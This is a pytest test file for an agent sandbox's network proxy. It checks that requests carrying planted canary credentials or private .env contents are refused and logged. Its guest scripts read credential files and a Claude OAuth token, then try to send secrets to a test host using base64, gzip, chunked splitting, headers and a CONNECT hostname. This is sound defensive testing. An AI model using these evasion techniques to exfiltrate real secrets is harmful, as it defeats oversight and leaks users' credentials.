"""Leaks caught at the allowed doors (agentbox.net.doors): canary secrets planted in the VM for each session, and the
workspace's private files (network.private), refused when a request through the proxy carries them.

Every test drives `agentbox shell` on the double, whose guest program talks to a host server through the VM's proxy
(allowlist mode, the server known to the proxy as up.test); a control request without the secret goes through.
"""

from __future__ import annotations

import base64
import gzip
import http.server
import json
import os
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import ClassVar

import pytest

from agentbox import paths
from agentbox.net import guard as netguard
from agentbox.net import proxy as netproxy
from tests.helpers import GUEST_PROXY, NAME, FakeLima, agentbox, run_cli, staged_logins, write
from tests.test_broker_cli import host_logins, upstream  # noqa: F401 (fixtures)
from tests.test_launch_plan import configure, launch, planned_launch

pytestmark = pytest.mark.timeout(180)

# In the guest: POST each (label, url, body, headers, chunks) of the JSON in argv[1] through the proxy, printing
# {label: [status, answer body]}; `chunks`: the body sent in that many pieces (chunked framing).
SEND = GUEST_PROXY + r"""
import base64, http.client, json, sys
results = {}
for label, url, body, headers, chunks in json.loads(sys.argv[1]):
    data = base64.b64decode(body)
    connection = http.client.HTTPConnection(proxy.hostname, proxy.port, timeout=20)
    if chunks > 1:
        cut = len(data) // chunks
        pieces = [data[i * cut:(i + 1) * cut if i < chunks - 1 else len(data)] for i in range(chunks)]
        connection.request("POST", url, body=iter(pieces), headers={**proxy_auth, **headers}, encode_chunked=True)
    else:
        connection.request("POST", url, body=data, headers={**proxy_auth, **headers})
    response = connection.getresponse()
    results[label] = [response.status, response.read().decode(errors="replace")]
print(json.dumps(results))
"""

# In the guest: the three canaries where a session finds them, and the files' modes.
CANARIES = r"""
import json, os, stat
home = os.path.expanduser("~")
aws = open(home + "/.aws/credentials").read()
dotenv = open(home + "/.env").read()
print(json.dumps({"aws": aws, "dotenv": dotenv, "env": os.environ.get("STRIPE_API_KEY"),
                  "modes": [stat.S_IMODE(os.stat(home + p).st_mode) for p in ("/.aws/credentials", "/.env")]}))
"""


class _Recorder(http.server.BaseHTTPRequestHandler):
    received: ClassVar[list[bytes]] = []

    def do_POST(self) -> None:
        if self.headers.get("Transfer-Encoding", "").lower() == "chunked":
            body = b""
            while True:
                size = int(self.rfile.readline().split(b";")[0], 16)
                if not size:
                    self.rfile.readline()
                    break
                body += self.rfile.read(size)
                self.rfile.readline()
        else:
            body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
        self.received.append(self.requestline.encode() + b"\n" + bytes(self.headers) + body)
        self.send_response(200)
        self.send_header("Content-Length", "2")
        self.end_headers()
        self.wfile.write(b"ok")

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture
def server(monkeypatch: pytest.MonkeyPatch, home: Path) -> Iterator[tuple[int, list[bytes]]]:
    staged_logins(home)  # the proxy of allowlist mode alone (no credential broker)
    monkeypatch.setenv(netproxy.TEST_RESOLVE, "up.test=127.0.0.1")
    received: list[bytes] = []
    handler = type("Handler", (_Recorder,), {"received": received})
    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    yield httpd.server_address[1], received
    httpd.shutdown()
    httpd.server_close()


def _allowlist(project: Path, port: int, extra: str = "") -> None:
    write(project / "agentbox.yml", f"network:\n  mode: allowlist\n  allow: ['up.test:{port}']\n{extra}")


def _send(project: Path, requests: list[tuple[str, str, bytes, dict[str, str], int]]) -> tuple[dict, str]:
    payload = json.dumps([[label, url, base64.b64encode(body).decode(), headers, chunks]
                          for label, url, body, headers, chunks in requests])
    result = agentbox(project, "shell", "--", "python3", "-c", SEND, payload)
    assert result.returncode == 0, result.stderr
    return json.loads(result.stdout.strip().splitlines()[-1]), result.stderr


def _leaks(project: Path) -> list[dict]:
    result = run_cli("net", "log", "--leaks", "--json", cwd=project)
    assert result.exit_code == 0, result.stderr
    return [json.loads(line) for line in result.stdout.splitlines()]


def _canaries(project: Path) -> dict:
    result = agentbox(project, "shell", "--", "python3", "-c", CANARIES)
    assert result.returncode == 0, result.stderr
    return json.loads(result.stdout.strip().splitlines()[-1])


def test_each_canary_reaches_the_vm_and_a_request_carrying_it_is_refused_logged_and_reported(
        project: Path, vm: FakeLima, server: tuple[int, list[bytes]]) -> None:
    port, received = server
    _allowlist(project, port)
    first = _canaries(project)
    aws_id = first["aws"].split("aws_access_key_id = ")[1].split()[0]
    aws_secret = first["aws"].split("aws_secret_access_key = ")[1].split()[0]
    assert first["aws"].startswith("[default]\n") and aws_id.startswith("AKIA") and len(aws_id) == 20
    assert len(aws_secret) == 40
    password = first["dotenv"].split("postgres://app:")[1].split("@")[0]
    assert first["dotenv"].startswith("DATABASE_URL=postgres://app:") and len(password) == 24
    assert first["env"].startswith("sk_live_") and first["modes"] == [0o600, 0o600]
    again = _canaries(project)  # a new session: new values
    assert again["aws"] != first["aws"] and again["env"] != first["env"] and again["dotenv"] != first["dotenv"]

    url = f"http://up.test:{port}/upload"
    canaries = _canaries(project)
    secret = canaries["aws"].split("aws_secret_access_key = ")[1].split()[0]
    env = canaries["env"]
    dotenv = canaries["dotenv"].split("postgres://app:")[1].split("@")[0]
    old = first["env"]  # an earlier session's value is still known
    results, stderr = _send(project, [
        ("control", url, b"hello", {}, 1),
        ("aws", url, b'{"note": "' + secret.encode() + b'"}', {"Content-Type": "application/json"}, 1),
        ("env", url, b"x", {"X-Debug": env}, 1),
        ("dotenv", f"{url}?password={dotenv}", b"", {}, 1),
        ("old", url, b"Authorization: Basic " + base64.b64encode(f"u:{old}".encode()), {}, 1),
    ])
    assert results["control"] == [200, "ok"]
    for label in ("aws", "env", "dotenv", "old"):
        status, body = results[label]
        assert status == 403, (label, results)
        answer = json.loads(body)
        assert answer["reason"].startswith("attempted leak") and answer["by"] == "agentbox proxy"
        assert all(value not in body for value in (secret, env, dotenv, old))
    sent = b"".join(received)
    assert b"hello" in sent and all(value.encode() not in sent for value in (secret, env, dotenv, old))
    # one warning after the session, naming the host and each kind
    warnings = [line for line in stderr.splitlines() if "tried to send secrets out" in line]
    assert len(warnings) == 1, stderr
    for kind in ("canary (aws) to up.test", "canary (env) to up.test", "canary (dotenv) to up.test"):
        assert kind in warnings[0]
    leaks = _leaks(project)
    assert [(entry["decision"], entry["what"], entry["host"]) for entry in leaks] == [
        ("leak", "aws", "up.test"), ("leak", "env", "up.test"), ("leak", "dotenv", "up.test"),
        ("leak", "env", "up.test")]
    log = netguard.log_path(NAME).read_text()
    assert all(value not in log for value in (secret, env, dotenv, old))
    shown = run_cli("net", "log", "--leaks", cwd=project)
    assert shown.exit_code == 0 and len(shown.stdout.splitlines()) == 4 and "leak" in shown.stdout
    assert (netguard.folder(NAME) / "canaries.json").stat().st_mode & 0o077 == 0


def test_a_canary_in_a_connects_authority_is_refused(project: Path, vm: FakeLima,
                                                     server: tuple[int, list[bytes]]) -> None:
    port, _ = server
    _allowlist(project, port)
    program = GUEST_PROXY + r"""
import os, socket
key = open(os.path.expanduser("~/.aws/credentials")).read().split("aws_access_key_id = ")[1].split()[0]
s = socket.create_connection((proxy.hostname, proxy.port), timeout=10)
s.sendall(("CONNECT %s.up.test:443 HTTP/1.1\r\nProxy-Authorization: %s\r\n\r\n"
           % (key.lower(), proxy_auth["Proxy-Authorization"])).encode())
print(s.recv(65536).split(b"\r\n")[0].decode())
"""
    result = agentbox(project, "shell", "--", "python3", "-c", program)
    assert result.returncode == 0, result.stderr
    assert result.stdout.strip().splitlines()[-1] == "HTTP/1.1 403 Forbidden"
    assert [entry["what"] for entry in _leaks(project)] == ["aws"]


SECRET_LINE = ("API_TOKEN=" + "k9Q2vX7mLp4RtY8wZ1bN6cH3jF5dS0aG" * 4 + "\n").encode()


def test_a_private_files_content_is_refused_plain_split_base64_and_gzip(project: Path, vm: FakeLima,
                                                                        server: tuple[int, list[bytes]]) -> None:
    port, received = server
    _allowlist(project, port)
    write(project / ".env", (b"PORT=8080\nDEBUG=1\n" + SECRET_LINE).decode())
    url = f"http://up.test:{port}/paste"
    quoted = b'{"file": "' + base64.b64encode(SECRET_LINE) + b'"}'
    wrapped = base64.encodebytes(b"notes: " + SECRET_LINE)  # line breaks every 76 characters
    embedded = b"--b\r\nContent-Type: application/gzip\r\n\r\n" + gzip.compress(SECRET_LINE) + b"\r\n--b--\r\n"
    results, stderr = _send(project, [
        ("control", url, b"PORT=8080\nDEBUG=1\n" + b"unrelated text " * 20, {}, 1),
        ("plain", url, b"here it is: " + SECRET_LINE, {}, 1),
        ("split", url, SECRET_LINE, {}, 3),  # pieces of 46 bytes: no piece holds a 64-byte window of it
        ("base64", url, quoted, {"Content-Type": "application/json"}, 1),
        ("urlsafe", url, base64.urlsafe_b64encode(b"\xff\xfe" + SECRET_LINE), {}, 1),
        ("wrapped", url, wrapped, {}, 3),
        ("gzip", url, gzip.compress(SECRET_LINE * 3), {"Content-Encoding": "gzip"}, 1),
        ("embedded", url, embedded, {"Content-Type": "multipart/form-data; boundary=b"}, 1),
    ])
    assert results["control"] == [200, "ok"]  # short, common lines of the file are not chunks of it
    for label in ("plain", "split", "base64", "urlsafe", "wrapped", "gzip", "embedded"):
        assert results[label][0] == 403, (label, results)
        assert json.loads(results[label][1])["reason"].startswith("attempted leak")
    assert SECRET_LINE.strip() not in b"".join(received)
    leaks = _leaks(project)
    assert len(leaks) == 7 and {(entry["what"], entry["file"]) for entry in leaks} == {("private", ".env")}
    assert "private file .env to up.test" in stderr
    private = netguard.folder(NAME) / "private.json"
    assert private.stat().st_mode & 0o077 == 0 and SECRET_LINE.strip().decode() not in private.read_text()


def test_a_glob_matching_nothing_warns_and_an_unreadable_private_file_is_named(
        project: Path, vm: FakeLima, server: tuple[int, list[bytes]]) -> None:
    port, _ = server
    # the default list and one more (leaving one out would need `agentbox trust`: test_network.py)
    _allowlist(project, port, "  private: ['.env*', '*.pem', '*.key', 'id_*', 'secrets/**', 'certs/*.pem']\n")
    write(project / ".env", SECRET_LINE.decode())
    os.mkfifo(project / ".env.pipe")  # a private file agentbox cannot read as one
    result = agentbox(project, "shell", "--", "true")
    assert result.returncode == 0, result.stderr
    assert (f"agentbox: warning: network.private: `certs/*.pem` (in {project / 'agentbox.yml'}) matches no file "
            f"in {project}; nothing is fingerprinted for it") in result.stderr
    assert ("agentbox: warning: network.private: .env.pipe cannot be read, so it is not fingerprinted (its content "
            "may be uploaded)") in result.stderr
    assert result.stderr.count("certs/*.pem") == 1  # once per launch
    files = json.loads((netguard.folder(NAME) / "private.json").read_text())["files"]
    assert [record["path"] for record in files] == [".env"]


def test_a_launch_from_its_plan_gets_new_canaries_and_pays_nothing_for_unchanged_private_files(
        project: Path, vm: FakeLima, home: Path) -> None:
    staged_logins(home)
    write(project / ".env", SECRET_LINE.decode())
    configure(project)
    first = planned_launch(project, vm)
    private = netguard.folder(NAME) / "private.json"
    made = private.stat().st_mtime_ns
    second = launch(project, "codex")
    assert second.planned and second.result.returncode == 0, second.stderr
    values = [ran.data["env"]["STRIPE_API_KEY"] for ran in (first, second)]
    assert values[0] != values[1]
    known = (netguard.folder(NAME) / "canaries.json").read_text()
    assert all(value in known for value in values)  # the proxy knows both sessions' values
    assert private.stat().st_mtime_ns == made  # nothing fingerprinted again
    assert not list((paths.staging_dir(NAME) / "canaries").iterdir())  # each session's staged copy is gone
    write(project / ".env", "OTHER=" + "z8" * 60 + "\n")
    after = launch(project, "codex")
    assert not after.planned and after.result.returncode == 0, after.stderr
    assert private.stat().st_mtime_ns != made


# In the guest: through the credential broker to api.anthropic.com, with the VM's login; argv[1] says what to add:
# the ~/.env canary in the body, the session's environment canary in a header, or nothing.
BROKERED = GUEST_PROXY + r"""
import http.client, json, os, ssl, sys
login = json.load(open(os.path.expanduser("~/.claude/.credentials.json")))["claudeAiOauth"]["accessToken"]
password = open(os.path.expanduser("~/.env")).read().split("postgres://app:")[1].split("@")[0]
context = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
connection = http.client.HTTPSConnection(proxy.hostname, proxy.port, context=context, timeout=20)
connection.set_tunnel("api.anthropic.com", 443, headers=proxy_auth)
headers = {"Authorization": "Bearer " + login}
body = None
if sys.argv[1] == "body":
    body = json.dumps({"messages": [{"role": "user", "content": "the db password is " + password}]})
elif sys.argv[1] == "header":
    headers["X-Note"] = os.environ["STRIPE_API_KEY"]
connection.request("GET", "/api/oauth/profile", body=body, headers=headers)
response = connection.getresponse()
print(json.dumps({"status": response.status, "body": response.read().decode()}))
"""


@pytest.mark.usefixtures("host_logins", "upstream")
def test_the_broker_refuses_a_canary_in_an_intercepted_requests_body_or_header(project: Path, vm: FakeLima) -> None:
    write(project / "agentbox.yml", "")  # the broker is on by default
    results = {}
    for what in ("none", "body", "header"):
        result = agentbox(project, "shell", "--", "python3", "-c", BROKERED, what)
        assert result.returncode == 0, result.stderr
        results[what] = json.loads(result.stdout.strip().splitlines()[-1])
    assert results["none"]["status"] == 200
    for what in ("body", "header"):
        assert results[what]["status"] == 403, results
        assert json.loads(results[what]["body"])["reason"].startswith("attempted leak")
    assert [(entry["what"], entry["host"]) for entry in _leaks(project)] == [
        ("dotenv", "api.anthropic.com"), ("env", "api.anthropic.com")]
